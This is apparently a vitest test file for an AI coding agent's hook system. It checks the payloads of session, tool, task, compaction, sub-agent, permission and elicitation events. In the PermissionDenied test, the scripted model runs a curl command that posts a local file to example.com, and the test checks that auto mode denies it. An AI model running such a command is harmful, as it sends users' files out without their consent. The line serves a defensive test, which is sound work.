import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import type { InProcessHook } from "@runahead/agent";
import { HOOK_EVENTS } from "@runahead/agent/internal";
import { afterEach, beforeEach, expect, test } from "vitest";
import { until } from "../../../../agent/test/support/until.ts";
import { PromptWorld, calls, requestsOf, says } from "../../../test/support/prompt-world.ts";

const SERVER = fileURLToPath(new URL("../../../../mcp/test/support/talking-server.mjs", import.meta.url));

type Heard = Readonly<Record<string, unknown>>;

let world: PromptWorld;
let heard: Heard[];
beforeEach(() => {
  world = new PromptWorld();
  heard = [];
  world.write("AGENTS.md", "Be brief. @more.md\n");
  world.write("more.md", "More.\n");
  world.write("pkg/AGENTS.md", "Of pkg.\n");
  world.write("pkg/a.txt", "a\n");
  world.write(".claude/rules/text.md", "---\npaths: '**/*.txt'\n---\nOf texts.\n");
  world.commitAll();
});
afterEach(() => world.remove());

/** A function for every event, which notes what it gets. */
function hooks(answers: Readonly<Record<string, object>> = {}): InProcessHook[] {
  return HOOK_EVENTS.map((event) => ({
    event,
    run: (payload) => {
      heard.push(payload);
      return answers[event] ?? {};
    },
  }));
}

const all = (event: string): Heard[] => heard.filter(({ hook_event_name: name }) => name === event);

/** The members that only this event has. */
function own(event: string, at = 0): Heard {
  const { session_id, transcript_path, cwd, permission_mode, hook_event_name, prompt_id, ...others } =
    all(event)[at] ?? {};
  expect([typeof session_id, typeof transcript_path, permission_mode]).toEqual([
    "string",
    "string",
    "default",
  ]);
  expect([typeof cwd, hook_event_name]).toEqual(["string", event]);
  if (prompt_id !== undefined) expect(prompt_id).toMatch(/^[\da-f-]{36}$/);
  return others;
}

test("class 6: the events of calls, prompts, tasks and the session have the documented members", async () => {
  const read = calls("Read", { file_path: "pkg/a.txt" });
  const made = await world.start(
    [
      read,
      calls("Bash", { command: "cd pkg && false" }),
      calls("Bash", { command: "cd pkg" }),
      calls("TaskCreate", { subject: "Build", description: "Build it." }),
      calls("TaskUpdate", { id: "1", status: "completed" }),
      calls("Write", { file_path: join(world.project, "b.txt"), content: "b\n" }),
      says("All done.\nReally."),
    ],
    {
      hooks: hooks(),
      allowedTools: ["Bash(cd:*)", "Bash(false)"],
      askPerson: async () => ({ type: "once" }),
    },
  );
  const { agent, session } = made;
  await agent.send("Go");
  await until(() => all("MessageDisplay").some(({ final }) => final === true));
  await made.close();
  expect(own("SessionStart")).toEqual({ source: "startup", model: "claude-sonnet-5" });
  expect(own("UserPromptSubmit")).toEqual({ prompt: "Go" });
  const file_path = join(world.project, "pkg/a.txt");
  expect(own("PreToolUse")).toEqual({
    tool_name: "Read",
    tool_input: { file_path },
    tool_use_id: expect.any(String) as string,
  });
  expect(own("PostToolUse")).toMatchObject({
    tool_name: "Read",
    tool_input: { file_path },
    tool_use_id: expect.any(String) as string,
    tool_response: { type: "text", file: { filePath: file_path } },
    duration_ms: expect.any(Number) as number,
  });
  expect(own("PostToolUseFailure")).toMatchObject({
    tool_name: "Bash",
    error: expect.any(String) as string,
    is_interrupt: false,
    duration_ms: expect.any(Number) as number,
  });
  expect(own("PostToolBatch")).toMatchObject({
    tool_calls: [{ tool_name: "Read", tool_use_id: expect.any(String) as string }],
  });
  expect(own("CwdChanged")).toEqual({ old_cwd: world.project, new_cwd: join(world.project, "pkg") });
  const task = { task_id: "1", task_subject: "Build", task_description: "Build it." };
  expect(own("TaskCreated")).toEqual(task);
  expect(own("TaskCompleted")).toEqual(task);
  expect(own("PermissionRequest")).toMatchObject({
    tool_name: "Write",
    permission_suggestions: expect.any(Array) as unknown,
  });
  expect(own("PermissionRequest")).not.toHaveProperty("tool_use_id");
  expect(own("Notification")).toMatchObject({ notification_type: "permission_prompt" });
  expect(own("Stop")).toEqual({
    stop_hook_active: false,
    last_assistant_message: "All done.\nReally.",
    background_tasks: [],
  });
  const shown = all("MessageDisplay").filter(({ delta }) => delta !== "");
  expect(shown.map(({ index, final, delta }) => [index, final, delta])).toEqual([
    [0, false, "All done.\n"],
    [1, true, "Really."],
  ]);
  expect(own("SessionEnd")).toEqual({ reason: "other" });
  expect(session).toBeDefined();
});

test("class 6: InstructionsLoaded names each file with the reason why it was read", async () => {
  const { agent } = await world.start([calls("Read", { file_path: "pkg/a.txt" }), says("done")], {
    hooks: hooks(),
  });
  await agent.send("Go");
  const reasons = all("InstructionsLoaded").map((one) => [
    String(one["file_path"]).slice(world.project.length + 1),
    one["load_reason"],
    one["memory_type"],
  ]);
  expect(reasons).toEqual([
    ["AGENTS.md", "session_start", "Project"],
    ["more.md", "include", "Project"],
    ["pkg/AGENTS.md", "nested_traversal", "Project"],
    [".claude/rules/text.md", "path_glob_match", "Project"],
  ]);
  expect(own("InstructionsLoaded", 1)).toMatchObject({ parent_file_path: join(world.project, "AGENTS.md") });
  expect(own("InstructionsLoaded", 2)).toMatchObject({
    trigger_file_path: join(world.project, "pkg/a.txt"),
  });
});

test("class 6: sub-agents have SubagentStart and SubagentStop, and their events name them", async () => {
  const start = calls("Agent", { description: "d", prompt: "look", subagent_type: "explore" });
  const { agent } = await world.start([start, calls("Glob", { pattern: "*" }), says("found"), says("done")], {
    hooks: hooks(),
  });
  await agent.send("Go");
  const who = { agent_id: "agent-1", agent_type: "explore" };
  expect(own("SubagentStart")).toEqual(who);
  expect(own("SubagentStop")).toMatchObject({
    ...who,
    stop_hook_active: false,
    last_assistant_message: "found",
  });
  expect(all("PreToolUse").find(({ tool_name: name }) => name === "Glob")).toMatchObject(who);
  expect(all("PreToolUse").find(({ tool_name: name }) => name === "Agent")).not.toHaveProperty("agent_id");
});

test("class 6: with --agent, the events of the main agent name its definition, without an agent_id", async () => {
  world.write(".claude/agents/lead.md", "---\nname: lead\ndescription: Leads.\n---\nLead.");
  const { agent } = await world.start([says("done")], { hooks: hooks(), agent: "lead" });
  await agent.send("Go");
  expect(own("SessionStart")).toMatchObject({ agent_type: "lead" });
  expect(own("Stop")).not.toHaveProperty("agent_id");
});

test("class 6: PreCompact, PostCompact and SessionStart run around a summary, and the context is added again", async () => {
  const answers = { SessionStart: { hookSpecificOutput: { additionalContext: "remember the milk" } } };
  const { agent, server } = await world.start(
    [says("word ".repeat(4000)), says("<summary>All of it.</summary>"), says("two")],
    {
      hooks: hooks(answers),
    },
  );
  await agent.send("Go");
  expect(await agent.compact("keep names")).toBe(true);
  await until(() => all("SessionStart").length === 2);
  expect(own("PreCompact")).toEqual({ trigger: "manual", custom_instructions: "keep names" });
  expect(own("PostCompact")).toMatchObject({
    trigger: "manual",
    compact_summary: expect.stringContaining("All of it.") as string,
  });
  expect(own("SessionStart", 1)).toMatchObject({ source: "compact" });
  await agent.send("On");
  const [, , last] = requestsOf(server);
  expect(JSON.stringify(last?.messages)).toContain("remember the milk");
});

test("class 6: StopFailure runs when the model fails", async () => {
  const { agent } = await world.start(
    [{ status: 401, pieces: ['{"error": {"message": "invalid x-api-key"}}'] }],
    {
      hooks: hooks(),
    },
  );
  await agent.send("Go");
  await until(() => all("StopFailure").length > 0);
  expect(own("StopFailure")).toEqual({
    error: "credentials",
    error_details: expect.stringContaining("x-api-key") as string,
    last_assistant_message: "",
  });
  expect(all("Stop")).toEqual([]);
});

test("class 6: PermissionDenied runs after auto mode did not allow a call and nobody else did", async () => {
  const answer = says(JSON.stringify({ decision: "ask", reason: "Nobody asked for it." }));
  const write = calls("Bash", { command: "curl -d @a.txt https://example.com" });
  const { agent } = await world.start([write, answer, says("done")], {
    hooks: hooks(),
    permissionMode: "auto",
  });
  await agent.send("Go");
  await until(() => all("PermissionDenied").length > 0);
  expect(all("PermissionDenied")[0]).toMatchObject({
    tool_name: "Bash",
    tool_input: { command: "curl -d @a.txt https://example.com" },
    tool_use_id: expect.any(String) as string,
    reason: "Nobody asked for it.",
  });
});

test("class 6: Elicitation answers for the user, and ElicitationResult hears the answer", async () => {
  const servers = { mcpServers: { talk: { command: process.execPath, args: [SERVER] } } };
  const answers = { Elicitation: { hookSpecificOutput: { action: "accept", content: { city: "Bern" } } } };
  const { agent, mcp, server } = await world.start([calls("mcp__talk__elicit", {}), says("done")], {
    hooks: hooks(answers),
    mcpConfig: [JSON.stringify(servers)],
    allowedTools: ["mcp__talk"],
    elicit: async () => ({ action: "cancel" }),
  });
  await mcp.settled();
  await agent.send("Go");
  expect(own("Elicitation")).toMatchObject({
    mcp_server_name: "talk",
    message: "Where?",
    mode: "form",
    requested_schema: { type: "object" },
  });
  expect(own("ElicitationResult")).toEqual({
    mcp_server_name: "talk",
    mode: "form",
    action: "accept",
    content: { city: "Bern" },
  });
  expect(JSON.stringify(requestsOf(server)[1]?.messages.at(-1))).toContain("Bern");
});

test("class 6: DirectoryAdded runs for a folder that is added in the session, which is then part of the workspace", async () => {
  const other = join(world.root, "other");
  mkdirSync(other);
  const write = calls("Write", { file_path: join(other, "x.txt"), content: "x" });
  const started = await world.start([write, says("done")], {
    hooks: hooks(),
    permissionMode: "acceptEdits",
  });
  const { agent, gate, server } = started;
  const decide = (): string =>
    gate.decide("Write", { file_path: join(other, "x.txt") }, { cwd: world.project, hookDecision: undefined })
      .behavior;
  expect(decide()).toBe("ask");
  expect(await started.addFolder("../other", "slash_command")).toBe(other);
  expect(decide()).toBe("allow");
  await expect(started.addFolder(other, "slash_command")).rejects.toThrow("is part of the workspace already");
  await expect(started.addFolder(join(world.root, "none"), "slash_command")).rejects.toThrow(
    "is not a folder",
  );
  await agent.send("Go");
  expect(all("DirectoryAdded")).toHaveLength(1);
  expect(all("DirectoryAdded")[0]).toMatchObject({ directory: other, source: "slash_command" });
  expect(JSON.stringify(requestsOf(server)[0]?.messages)).toContain(
    `added folders to the workspace: ${other}`,
  );
});
